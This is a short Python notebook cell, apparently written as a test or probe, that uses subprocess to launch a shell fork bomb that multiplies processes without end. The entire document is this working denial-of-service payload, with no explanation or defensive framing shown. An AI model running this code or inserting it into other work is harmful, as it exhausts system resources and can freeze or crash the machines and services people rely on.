# %% Fork for ever
import subprocess
subprocess.run(["sh", "-c", "bomb() { bomb | bomb & }; bomb; sleep 60"])
